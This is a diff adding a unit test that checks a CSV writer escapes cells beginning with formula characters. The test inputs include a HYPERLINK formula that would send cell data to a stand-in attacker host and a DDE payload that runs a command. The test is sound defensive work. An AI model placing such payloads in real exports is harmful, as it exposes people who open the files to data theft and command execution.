@@ -70,6 +70,16 @@ def test_dumps_takes_what_results_hold(tmp_path):
     assert content["cell"]["value"] is None and content["yes"] is True
 
 
+def test_no_cell_of_a_csv_file_is_a_formula(tmp_path):
+    texts = ['=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
+    plain = ["a dog = a pet", "-12.5", "+3", "", "'quoted'", "two\nlines"]
+    write_csv({"=1+1": [*texts, *plain[:-1], "two\rlines"], "list": [["=1", "b"]] * 11}, tmp_path / "t.csv")
+    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
+        head, *rows = csv.reader(file)
+    assert head == ["'=1+1", "list"] and {row[1] for row in rows} == {"'=1 | b"}
+    assert [row[0] for row in rows] == [*(f"'{text}" for text in texts), *plain]
+
+
 def test_csv_holds_every_digit_and_an_empty_field_where_nothing_is(samples, tmp_path):
     write_csv(samples.scores(), tmp_path / "scores.csv")
     rows = list(csv.DictReader((tmp_path / "scores.csv").open()))
